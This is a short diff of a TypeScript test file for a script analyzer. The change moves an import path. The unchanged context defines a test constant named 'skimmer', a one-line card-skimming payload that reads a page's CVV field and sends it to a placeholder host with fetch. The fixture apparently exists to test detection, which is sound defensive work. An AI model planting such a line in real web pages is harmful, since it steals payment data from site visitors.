@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { analysis as analysisSchema, type Analysis } from '../../core/schema/index.ts';
 import { createAnalyzer, type Analyzer } from '../../analyzer/index.ts';
-import { featureNames } from '../../analyzer/static/features/index.ts';
+import { featureNames } from '../../analyzer/features.ts';
 
 const megabyte = 1024 * 1024;
 const skimmer = 'fetch("https://a.example/?" + document.querySelector("#cvv").value);';
